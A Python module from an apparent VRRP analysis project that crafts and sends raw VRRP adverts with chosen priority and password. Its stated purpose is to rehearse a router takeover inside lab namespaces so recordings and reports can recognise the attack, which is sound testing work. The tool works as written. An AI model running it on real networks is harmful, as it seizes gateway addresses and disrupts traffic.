"""A router that should not be there: sends crafted adverts, to rehearse an attack inside the lab's own namespaces.

    python -m vrrpscope.lab.rogue --vrid 50 --priority 255 --source 10.0.0.66 --address 10.0.0.3 --password s3cr3t50
        --every 1 [--count N] [--version 2|3] [--destination 224.0.0.18] [--ttl 255] [--ip-id N|random]
        [--interface eth0]

VRRP has no protection worth the name: VRRPv2's password goes over the wire in clear (RFC 2338 section 10.2), later
versions have none (RFC 5798 section 9), so whoever is on the segment can take the address from its owner. What that
looks like in a recording, and how a report tells it from a misconfigured router, can be tried only with such a
speaker. It claims nothing but mastership: it has none of the virtual addresses and answers no ARP request.

The identification counts from its first value as keepalived's does (1 after 65535, since the kernel replaces 0), or
is random. The interval in the advert is `--every`, in the unit of its version. One line is printed for each advert
sent, and one at the end, which SIGTERM or SIGINT brings about.
"""

from __future__ import annotations

import argparse
import itertools
import secrets
import socket
import struct
import sys
import time
from ipaddress import IPv4Address
from typing import TYPE_CHECKING, Final

from vrrpscope.errors import PrivilegeError
from vrrpscope.lab.cadence import SECOND, stamp, ticks

if TYPE_CHECKING:
    from collections.abc import Callable, Sequence

PROTOCOL: Final = 112
GROUP: Final = IPv4Address("224.0.0.18")
INTERVALS: Final = {2: (SECOND, 255), 3: (SECOND // 100, 4095)}
"""By version: the unit of the advertisement interval in nanoseconds, and the most its field can say."""


def advert(
    *,
    vrid: int,
    priority: int,
    source: IPv4Address,
    addresses: Sequence[IPv4Address],
    interval: int = SECOND,
    password: str = "",
    version: int = 2,
    destination: IPv4Address = GROUP,
    ttl: int = 255,
    ip_id: int = 1,
) -> bytes:
    """Build an advert as a whole IPv4 packet, TOS 0xc0 as keepalived's.

    VRRPv2 as in RFC 3768 section 5.1, with a password as in RFC 2338 section 5.3.6 (type 1); VRRPv3 as in RFC 5798
    section 5.1, its checksum with the pseudo-header, as keepalived and FRR send it.

    Args:
        vrid: 0 to 255, as are `priority` and `ttl`; nothing is held to what the RFCs allow.
        priority: 255 is the address owner's, 0 a resignation.
        source: who is said to have sent it.
        addresses: the virtual addresses, at most 255.
        interval: nanoseconds; rounded to the unit of the version, and to what the field can say.
        password: up to eight bytes; VRRPv2 only.
        version: 2 or 3.
        destination: the group, or a router's address.
        ttl: 255 is the only one that routers accept.
        ip_id: the IPv4 identification.

    Raises:
        ValueError: the password is too long or VRRPv3 has none to take it.
        struct.error: a number does not fit into its field.
    """
    secret = password.encode()
    if len(secret) > 8 or (secret and version != 2):
        raise ValueError("a password has at most eight bytes, and only VRRPv2 has one")
    unit, most = INTERVALS[version]
    units = min(max(round(interval / unit), 1), most)
    head = struct.pack("!BBBB", version << 4 | 1, vrid, priority, len(addresses))
    head += struct.pack("!BB", bool(secret), units) if version == 2 else struct.pack("!H", units)
    tail = b"".join(address.packed for address in addresses)
    tail += secret.ljust(8, b"\0") if version == 2 else b""
    ends = source.packed + destination.packed
    size = len(head) + 2 + len(tail)
    # The sum knows no order: the pseudo-header may as well come last, and the checksum's own place be left out.
    covered = ends + struct.pack("!HH", PROTOCOL, size) if version == 3 else b""
    message = head + _checksum(head + tail + covered) + tail
    before = struct.pack("!BBHHHBB", 0x45, 0xC0, 20 + size, ip_id, 0, ttl, PROTOCOL)
    return before + _checksum(before + ends) + ends + message


def _checksum(data: bytes) -> bytes:
    """Return the Internet checksum (RFC 1071) of an even number of bytes."""
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total > 0xFFFF:
        total = (total & 0xFFFF) + (total >> 16)
    return struct.pack("!H", ~total & 0xFFFF)


def open_socket(interface: str) -> socket.socket:
    """Return a raw socket that sends whole IPv4 packets on one interface, and nothing back to its own host."""
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    raw.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    raw.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_LOOP, 0)
    raw.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, interface.encode())
    return raw


def main(arguments: Sequence[str] | None = None) -> int:
    """Send until told to stop; the command line is in the module's docstring."""
    parser = _parser()
    given = parser.parse_args(arguments)
    every = round(given.every * SECOND)

    def packet(ip_id: int) -> bytes:
        return advert(
            vrid=given.vrid,
            priority=given.priority,
            source=given.source,
            addresses=given.address,
            interval=every,
            password=given.password,
            version=given.version,
            destination=given.destination,
            ttl=given.ttl,
            ip_id=ip_id,
        )

    try:
        packet(1)
        raw = open_socket(given.interface)
    except ValueError as error:
        parser.error(str(error))
    except PermissionError:
        parser.exit(PrivilegeError.exit_code, "a raw socket needs root\n")
    except OSError as error:
        parser.error(f"{given.interface}: {error.strerror}")
    numbers = range(given.count) if given.count else itertools.count()
    what = f"{given.source} > {given.destination} VRRPv{given.version} vrid {given.vrid} priority {given.priority}"
    with raw:
        for number, _ in zip(numbers, ticks(every), strict=False):
            random = given.ip_id is None
            ip_id = 1 + (secrets.randbelow(0xFFFF) if random else (given.ip_id - 1 + number) % 0xFFFF)
            now = time.time_ns()
            try:
                raw.sendto(packet(ip_id), (str(given.destination), 0))
            except OSError as error:  # an interface that is down may come back
                sys.stderr.write(f"{stamp(now)} not sent: {error.strerror}\n")
                continue
            sys.stdout.write(f"{stamp(now)} {what} ttl {given.ttl} id {ip_id}\n")
            sys.stdout.flush()
    sys.stdout.write(f"{stamp(time.time_ns())} ended\n")
    return 0


def _parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(
        prog="python -m vrrpscope.lab.rogue", description="Send crafted VRRP adverts inside the lab."
    )
    octet = _number(0, 255)
    parser.add_argument("--vrid", type=octet, required=True)
    parser.add_argument("--priority", type=octet, required=True)
    parser.add_argument("--source", type=IPv4Address, required=True)
    parser.add_argument("--address", type=IPv4Address, required=True, action="append", help="may be given again")
    parser.add_argument("--password", default="")
    parser.add_argument("--every", type=_seconds, default=1.0, metavar="S")
    parser.add_argument("--count", type=_number(0, 1_000_000), default=0, help="0: until told to stop")
    parser.add_argument("--version", type=int, choices=list(INTERVALS), default=2)
    parser.add_argument("--destination", type=IPv4Address, default=GROUP)
    parser.add_argument("--ttl", type=octet, default=255)
    parser.add_argument("--ip-id", type=_identification, default=1, metavar="N|random")
    parser.add_argument("--interface", default="eth0")
    return parser


def _number(low: int, high: int) -> Callable[[str], int]:
    def number(text: str) -> int:
        if not low <= int(text) <= high:
            raise argparse.ArgumentTypeError(f"{text} is not between {low} and {high}")
        return int(text)

    return number


def _seconds(text: str) -> float:
    if not 0.001 <= float(text) <= 3600:
        raise argparse.ArgumentTypeError(f"{text} is not between 0.001 and 3600")
    return float(text)


def _identification(text: str) -> int | None:
    return None if text == "random" else _number(1, 0xFFFF)(text)


if __name__ == "__main__":
    sys.exit(main())
